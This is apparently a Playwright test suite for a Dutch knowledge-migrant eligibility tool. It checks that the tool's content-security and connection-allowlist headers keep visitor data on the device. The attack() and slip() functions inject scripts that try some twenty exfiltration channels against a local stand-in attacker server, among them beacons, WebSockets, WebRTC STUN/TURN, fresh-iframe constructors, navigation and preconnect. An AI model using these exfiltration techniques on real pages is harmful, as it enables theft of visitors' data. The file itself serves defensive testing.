// Nothing leaves the visitor's device, in any form of embedding. And the control: an attacker whose script runs on the page gets nothing out under
// our policy, while the same attack without the policy arrives at the attacker's server.
import assert from "node:assert/strict";
import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import { pathToFileURL } from "node:url";
import { chromium } from "playwright-core";
import { ELEMENT, FRAME, inside, OFFER, RESIZER, startAttacker, startHost, toolFrame, visitAlone as visit } from "./support/embedding.mjs";
import { headersFile } from "../../xtask/site/headers.mjs";
import { DIST, startSite } from "./support/site.mjs";
import { visitor } from "./support/visitor.mjs";
import { becomes, rested } from "./support/waiting.mjs";

const PKG = path.resolve(process.env.PKG ?? path.join(import.meta.dirname, "../../pkg"));

let site;
let host;
let attacker;
before(async () => {
  site = await startSite();
  host = await startHost();
  attacker = await startAttacker({ datagrams: ["webtransport", "webrtc-udp", "webrtc-realm"], streams: ["webrtc-tcp", "preconnect"] });
  host.put("/frame", FRAME(site), { head: RESIZER(site) });
  host.put("/element", "<kennismigrant-check></kennismigrant-check>", { head: ELEMENT(site) });
});
after(async () => {
  await Promise.all([host.stop(), attacker.stop()]);
  await site.stop();
});

/** Each form: its address, and where its questions stand. */
const FORMS = {
  page: { address: () => `${site.base}/nl/`, form: async (page) => page },
  frame: { address: () => `${host.base}/frame`, form: toolFrame },
  element: { address: () => `${host.base}/element`, form: async (page) => inside(page.locator("kennismigrant-check")) },
  "one file from the web": { address: () => `${site.base}/kennismigrant-check.html`, form: async (page) => page },
  "one file from the disk": { address: () => pathToFileURL(path.join(DIST, "kennismigrant-check.html")).href, form: async (page) => page },
};

for (const [name, { address, form }] of Object.entries(FORMS))
  test(`${name}: no request, no cookie, no storage, no worker through a whole assessment with the network cut`, async () => {
    const page = await visit(site, address());
    const place = await form(page);
    await place.locator("#check").waitFor();
    await page.waitForLoadState("networkidle");
    const tried = [];
    page.on("request", (request) => tried.push(request.url()));
    page.on("websocket", (socket) => tried.push(socket.url()));
    const served = site.requests.length + host.log.length;
    await page.context().setOffline(true);
    const me = visitor(place);
    await me.offer({ ...OFFER, age: undefined, birth: "2001-05-06" });
    await me.submit();
    assert.equal(await me.outcome(), "met-provided");
    await me.tickGates();
    assert.equal(await me.outcome(), "met");
    await me.form.getByRole("button", { name: /Toon nog/ }).click();
    await me.result.locator("summary").evaluateAll((all) => all.forEach((one) => one.click()));
    await rested(me.result);
    assert.deepEqual(tried, []);
    assert.equal(site.requests.length + host.log.length, served);
    assert.deepEqual(await page.context().cookies(), []);
    assert.equal(page.context().serviceWorkers().length, 0);
    assert.equal(page.workers().length, 0);
    for (const frame of page.frames()) assert.deepEqual(await frame.evaluate(kept), [0, 0, 0, ""], frame.url());
    assert.deepEqual(page.complaints, []);
    await page.context().close();
  });

/** What lies in the storage of a document; in a sandbox there is none to look in. */
async function kept() {
  if (window.origin === "null" && location.protocol !== "file:") return [0, 0, 0, ""];
  return [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length, document.cookie];
}

/** Every way out that a policy of content stops, each with its name in the address. */
function attack({ base: to, ports }) {
  const put = (name, attributes, place = document.head, text = "") => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    if (text) element.textContent = text;
    place.append(element);
    return element;
  };
  const ways = {
    fetch: () => {
      fetch(`${to}/fetch`, { mode: "no-cors" }).catch(() => null);
    },
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("POST", `${to}/xhr`);
      request.send("secret");
    },
    beacon: () => navigator.sendBeacon(`${to}/beacon`, "secret"),
    image: () => {
      new Image().src = `${to}/image`;
    },
    websocket: () => new WebSocket(`${to.replace("http", "ws")}/websocket`),
    eventsource: () => new EventSource(`${to}/eventsource`),
    form: () => {
      put("iframe", { name: "out" }, document.body);
      put("form", { action: `${to}/form`, method: "post", target: "out" }, document.body).submit();
    },
    stylesheet: () => put("link", { rel: "stylesheet", href: `${to}/stylesheet` }),
    font: () => {
      new FontFace("x", `url(${to}/font)`).load().catch(() => null);
    },
    prefetch: () => put("link", { rel: "prefetch", href: `${to}/prefetch` }),
    frame: () => put("iframe", { src: `${to}/frame` }, document.body),
    media: () => put("video", { src: `${to}/media` }, document.body),
    object: () => put("object", { data: `${to}/object` }, document.body),
    script: () => put("script", { src: `${to}/script` }),
    worker: () => new Worker(URL.createObjectURL(new Blob([`importScripts("${to}/worker")`]))),
    module: () => {
      import(`${to}/module`).catch(() => null);
    },
    preload: () => put("link", { rel: "preload", as: "fetch", href: `${to}/preload` }),
    background: () => {
      document.body.style.backgroundImage = `url(${to}/background)`;
    },
    later: () => fetchLater(`${to}/later`, { activateAfter: 0 }),
    ping: () => put("a", { href: "#ping", target: "_self", ping: `${to}/ping` }, document.body).click(),
    speculation: () =>
      put(
        "script",
        { type: "speculationrules" },
        document.head,
        JSON.stringify({ prefetch: [{ urls: [`${to}/speculation`], eagerness: "immediate" }] }),
      ),
    webtransport: () => {
      new WebTransport(`https://127.0.0.1:${ports.webtransport}`).ready.catch(() => null);
    },
  };
  for (const way of Object.values(ways)) {
    try {
      way();
    } catch {
      /* Refused at once. */
    }
  }
  return Object.keys(ways);
}

/** Where an attack goes, as a script is told it. */
const target = () => ({ base: attacker.base, ports: attacker.ports });

const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>\n?/;

/** The pages whose policy is ours: by header and `<meta>`, by `<meta>` alone, and for the control by neither. */
const OURS = { page: "nl/index.html", frame: "embed/index.html", "one file": "kennismigrant-check.html" };

for (const [name, file] of Object.entries(OURS)) {
  test(`an attacker's script in the ${name} gets nothing out`, async () => {
    const page = await visit(site, `${site.base}/${file}`);
    await page.locator("#check").waitFor();
    const { arrived } = await attacker.arrivals(() => page.evaluate(attack, target()));
    assert.deepEqual(arrived, []);
    await page.context().close();
  });

  test(`nor where the host sends no headers: the ${name} carries its policy itself`, async () => {
    const html = await readFile(path.join(DIST, file), "utf8");
    assert.match(html, POLICY);
    host.putRaw(`/meta/${file}`, html);
    const page = await visit(site, `${host.base}/meta/${file}`);
    const { arrived } = await attacker.arrivals(() => page.evaluate(attack, target()));
    assert.deepEqual(arrived, []);
    await page.context().close();
  });

  test(`the control: without the policy every way out of the ${name} leaks`, async () => {
    const html = await readFile(path.join(DIST, file), "utf8");
    host.putRaw(`/none/${file}`, html.replace(POLICY, ""));
    const page = await visit(site, `${host.base}/none/${file}`);
    const { tried, arrived } = await attacker.arrivals(
      () => page.evaluate(attack, target()),
      (ways) => ways,
    );
    assert.deepEqual(arrived, [...tried].sort());
    await page.context().close();
  });
}

// What no policy of content stops: WebRTC, leaving for another page, connecting ahead. The header Connection-Allowlist does, and a <meta> cannot say it.

/** Ways out that no policy of content stops. */
function slip({ tried, base, ports }) {
  const call = (Peer, url) => {
    const peer = new Peer({ iceServers: [{ urls: url, username: "secret", credential: "secret" }] });
    window.held = [...(window.held ?? []), peer];
    peer.createDataChannel("out");
    peer
      .createOffer()
      .then((offer) => peer.setLocalDescription(offer))
      .catch(() => null);
  };
  const put = (name, attributes) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
    return element;
  };
  const ways = {
    "webrtc-udp": () => call(RTCPeerConnection, `stun:127.0.0.1:${ports["webrtc-udp"]}`),
    "webrtc-tcp": () => call(RTCPeerConnection, `turn:127.0.0.1:${ports["webrtc-tcp"]}?transport=tcp`),
    // A page that had taken the constructor away would be passed by: an empty frame has its own.
    "webrtc-realm": () => call(put("iframe", {}).contentWindow.RTCPeerConnection, `stun:127.0.0.1:${ports["webrtc-realm"]}`),
    location: () => {
      location.href = `${base}/location`;
    },
    refresh: () => put("meta", { "http-equiv": "refresh", content: `0;url=${base}/refresh` }),
    link: () => put("a", { href: `${base}/link`, target: "_self" }).click(),
    window: () => window.open(`${base}/window`),
  };
  for (const way of tried) ways[way]();
}

/** Together on a page are the ways after which it is still there: the browser may end a page that breaks its rules, or a way that works does. */
const PAGES_OF_SLIPS = [["webrtc-tcp", "webrtc-udp", "window"], ["webrtc-realm"], ["link"], ["location"], ["refresh"]];
const SLIPS = PAGES_OF_SLIPS.flat().sort();

/** Tries every way. @param {string[]} expected @param {(page: import("playwright-core").Page) => unknown} [place] */
async function slips(address, expected, place = (page) => page) {
  const pages = await Promise.all(PAGES_OF_SLIPS.map(() => visit(site, address)));
  const places = await Promise.all(pages.map((page) => place(page)));
  const { arrived } = await attacker.arrivals(
    async () => {
      await Promise.all(PAGES_OF_SLIPS.map((tried, index) => places[index].evaluate(slip, { tried, ...target() }).catch(() => null)));
      return SLIPS;
    },
    () => expected,
  );
  for (const page of pages) await page.context().close();
  assert.deepEqual(arrived, expected);
}

/** A frame has nowhere to stand but in a host, of which it may be the only content. */
const framed = async (page) => (await page.locator("iframe").first().elementHandle()).contentFrame();

for (const [name, { address, place }] of Object.entries({
  page: { address: () => `${site.base}/nl/` },
  "one file from the web": { address: () => `${site.base}/kennismigrant-check.html` },
  "frame in a sandbox with popups": {
    address: () => {
      host.put("/popups", FRAME(site).replace("allow-scripts", "allow-scripts allow-popups allow-popups-to-escape-sandbox"));
      return `${host.base}/popups`;
    },
    place: toolFrame,
  },
}))
  test(`with our headers a script in the ${name} opens no WebRTC, also not from a new frame, and cannot leave for a page of its own`, async () => {
    await slips(address(), [], place);
  });

// These are limits, told in docs/embedding.md. They fail on the day that the browser closes them.

for (const [name, file] of [
  ["page", "nl/index.html"],
  ["one file", "kennismigrant-check.html"],
])
  test(`a known limit, and the control: without our headers a script in the ${name} gets out by WebRTC and by leaving`, async () => {
    const html = await readFile(path.join(DIST, file), "utf8");
    assert.match(html, POLICY);
    host.putRaw(`/limit/${file}`, html);
    await slips(`${host.base}/limit/${file}`, SLIPS);
  });

test("a known limit, and the control: without our headers a script in the sandboxed frame does too, but has no other frame to work from", async () => {
  host.putRaw("/limit/embed", await readFile(path.join(DIST, "embed/index.html"), "utf8"));
  host.put("/limit/host", `<iframe src="/limit/embed" title="Controle" sandbox="allow-scripts allow-popups"></iframe>`);
  await slips(
    `${host.base}/limit/host`,
    SLIPS.filter((way) => way !== "webrtc-realm"),
    framed,
  );
});

test("a known limit: the one file on a disk has no headers either", async () => {
  await slips(pathToFileURL(path.join(DIST, "kennismigrant-check.html")).href, SLIPS);
});

test("a known limit: this browser does not know `webrtc 'block'`, the word of the standard for policies of content", async () => {
  const page = await visit(site, "about:blank");
  host.putRaw("/webrtc", "<!doctype html><title>Host</title>", { "Content-Security-Policy": "webrtc 'block'" });
  await page.goto(`${host.base}/webrtc`);
  assert.match(page.complaints.join(), /Unrecognized Content-Security-Policy directive 'webrtc'/);
  const { arrived } = await attacker.arrivals(
    () => page.evaluate(slip, { tried: ["webrtc-udp"], ...target() }),
    () => ["webrtc-udp"],
  );
  assert.deepEqual(arrived, ["webrtc-udp"]);
  await page.context().close();
});

/** What a page can make the browser do ahead of any request. A private window does nothing ahead, so this is a visitor's ordinary one, whose log is read. */
async function ahead(address, expected) {
  const folder = await mkdtemp(path.join(tmpdir(), "ahead-"));
  const log = path.join(folder, "net.json");
  const context = await chromium.launchPersistentContext(path.join(folder, "profile"), {
    executablePath: process.env.CHROME ?? "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", `--log-net-log=${log}`],
  });
  try {
    attacker.log.length = 0;
    const page = await context.newPage();
    await page.goto(address);
    await page.evaluate((port) => {
      for (const [rel, href] of [
        ["preconnect", `http://127.0.0.1:${port}`],
        ["preconnect", "http://secret-connect.example"],
        ["dns-prefetch", "http://secret-name.example"],
      ]) {
        const link = document.createElement("link");
        link.rel = rel;
        link.href = href;
        document.head.append(link);
      }
    }, attacker.ports.preconnect);
    await becomes(() => expected.filter((url) => url.startsWith("/") && !attacker.log.includes(url)), []);
    // What is not done ahead is never done, so that there is nothing to wait for but some time.
    await page.waitForTimeout(1500);
    await context.close();
    const named = (await readFile(log, "utf8")).match(/secret-\w+\.example/g) ?? [];
    assert.deepEqual([...attacker.log, ...new Set(named)].sort(), expected);
  } finally {
    await context.close();
    await rm(folder, { recursive: true, force: true });
  }
}

test("with our headers a script in the page looks up no name and connects nowhere ahead; without them it does", async () => {
  host.putRaw("/ahead", await readFile(path.join(DIST, "nl/index.html"), "utf8"));
  await ahead(`${site.base}/nl/`, []);
  await ahead(`${host.base}/ahead`, ["/preconnect", "secret-connect.example", "secret-name.example"]);
});

test("all that we serve says it, since a script could work from a page of the same site that does not", async () => {
  for (const place of [
    "/",
    "/nl/",
    "/demo/",
    "/demo/en/",
    "/embed/",
    "/norms.json",
    "/norms.csv",
    "/kennismigrant-check.html",
    "/kennismigrant-check.js",
  ]) {
    const { headers } = await fetch(site.base + place);
    assert.match(headers.get("Connection-Allowlist") ?? "", /^\(response-origin .*\);redirects=allow$/, place);
  }
});

test("whatever our pages and the engine's sources link to can be reached", async () => {
  const allowed = [...(await fetch(site.base)).headers.get("Connection-Allowlist").matchAll(/"([^"]+)"/g)].map(([, origin]) => origin);
  const { initSync, sources } = await import(pathToFileURL(path.join(PKG, "kennismigrant.js")).href);
  initSync({ module: await readFile(path.join(PKG, "kennismigrant_bg.wasm")) });
  const pages = (await readdir(DIST, { recursive: true })).filter((name) => name.endsWith(".html"));
  const html = (await Promise.all(pages.map((name) => readFile(path.join(DIST, name), "utf8")))).join();
  const linked = [...html.matchAll(/<a [^>]*href="(https?:[^"]+)"/g)]
    .map(([, url]) => url)
    .concat(sources().flatMap(({ url }) => url ?? []));
  assert.ok(linked.length > 50, String(linked.length));
  assert.deepEqual(
    [...new Set(linked.map((url) => new URL(url).origin))].filter((origin) => !allowed.includes(origin)),
    [],
  );
  // Nobody is let in whom we do not name: no star, no scheme without a lock.
  for (const origin of allowed) assert.match(origin, /^https:\/\/[a-z0-9.-]+$/);
});

test("a link to a place that sends its readers on works, as those to the law do; one to a place that we do not name goes nowhere", async () => {
  const [, value] = /Connection-Allowlist: (.*)/.exec(headersFile({ files: {}, linked: [host.base], pages: [], staffPages: [] }));
  const law = await startHost();
  host.sendOn("/law", `${law.base}/article`);
  attacker.putRaw(
    "/linking",
    `<a id="named" href="${host.base}/law" target="_blank">law</a><a id="not-named" href="${law.base}/other" target="_blank">other</a>`,
    { "Connection-Allowlist": value },
  );
  const page = await visit(site, `${attacker.base}/linking`);
  // The one that goes nowhere first: it had its time when the other has arrived.
  for (const id of ["#not-named", "#named"]) await page.click(id);
  const arrived = () => law.log.filter((url) => url !== "/favicon.ico");
  await becomes(arrived, ["/article"]);
  await page.context().close();
  await law.stop();
  assert.deepEqual(arrived(), ["/article"]);
});

test("the element stands in its host's page: nothing of ours holds there, and under a host's own headers it works", async () => {
  const STRICT = {
    "Content-Security-Policy": `default-src 'none'; script-src ${site.base} 'wasm-unsafe-eval'; img-src data:`,
    "Connection-Allowlist": `(response-origin "${site.base}")`,
  };
  host.put("/guarded-element", "<kennismigrant-check></kennismigrant-check>", { head: ELEMENT(site), ...STRICT });
  const { arrived } = await attacker.arrivals(async () => {
    const page = await visit(site, `${host.base}/guarded-element`);
    const me = visitor(inside(page.locator("kennismigrant-check")));
    await me.offer(OFFER);
    assert.equal(await me.outcome(), "met-provided");
    await page.evaluate(attack, target());
  });
  assert.deepEqual(arrived, []);
  await slips(`${host.base}/guarded-element`, []);
  await slips(`${host.base}/element`, SLIPS);
});

test("an attacker's script in the sandboxed frame cannot take the host's page, the frame or a new window elsewhere", async () => {
  const leave = (to) => {
    for (const way of [
      () => {
        window.top.location = `${to}/top`;
      },
      () => window.open(`${to}/window`),
      () => {
        window.location = `${to}/self`;
      },
    ])
      try {
        way();
      } catch {
        /* Refused at once. */
      }
  };
  host.put("/guarded", FRAME(site), { head: RESIZER(site), "Content-Security-Policy": `frame-src ${site.base}` });
  const page = await visit(site, `${host.base}/guarded`);
  const frame = await toolFrame(page);
  const { arrived } = await attacker.arrivals(() => frame.evaluate(leave, attacker.base).catch(() => []));
  assert.deepEqual(arrived, []);
  assert.equal(page.url(), `${host.base}/guarded`);
  await page.context().close();

  // Without our headers and the host's `frame-src` the sandbox alone keeps the host's page in place; without the sandbox nothing does.
  host.putRaw("/unheaded", await readFile(path.join(DIST, "embed/index.html"), "utf8"));
  for (const [sandbox, expected] of [
    ['sandbox="allow-scripts"', ["self"]],
    ["", ["self", "top", "window"]],
  ]) {
    host.put("/unguarded", `<iframe src="/unheaded" title="Controle" ${sandbox}></iframe>`);
    const open = await visit(site, `${host.base}/unguarded`);
    const unguarded = await framed(open);
    const leaves = async () => {
      await unguarded.evaluate(leave, attacker.base).catch(() => null);
      return ["self", "top", "window"];
    };
    assert.deepEqual((await attacker.arrivals(leaves, () => expected)).arrived, expected, sandbox);
    await open.context().close();
  }
});

test("the frame in a sandbox has nothing to store in, and works", async () => {
  const page = await visit(site, `${host.base}/frame`);
  const frame = await toolFrame(page);
  const refused = await frame.evaluate(() =>
    [() => localStorage, () => sessionStorage, () => document.cookie].map((look) => {
      try {
        look();
        return "open";
      } catch ({ name }) {
        return name;
      }
    }),
  );
  assert.deepEqual(refused, ["SecurityError", "SecurityError", "SecurityError"]);
  await page.context().close();
});

test("the engine imports its own glue and nothing else: it has no way to the network, the clock or chance", async () => {
  const module = new WebAssembly.Module(await readFile(path.join(PKG, "kennismigrant_bg.wasm")));
  const imports = WebAssembly.Module.imports(module);
  assert.ok(imports.length > 0);
  assert.deepEqual([...new Set(imports.map(({ module: from }) => from))], ["./kennismigrant_bg.js"]);
  const names = imports.map(({ name }) => name.replace(/^__wbg_|_[0-9a-f]{16}$/g, ""));
  for (const name of names)
    assert.doesNotMatch(name, /fetch|xml|socket|beacon|crypto|random|now|date|window|document|storage|global|self/i);
});

test("the tool never opens a WebRTC connection", async () => {
  // Not every browser and not every host forbids WebRTC, so the tool is watched instead: the constructor is never called.
  const page = await visit(site, "about:blank");
  await page.addInitScript(() => {
    window.connections = 0;
    window.RTCPeerConnection = class {
      constructor() {
        window.connections += 1;
      }
    };
  });
  await page.goto(`${site.base}/nl/`);
  const me = visitor(page);
  await me.offer(OFFER);
  await me.submit();
  assert.equal(await page.evaluate(() => window.connections), 0);
  await page.context().close();
});
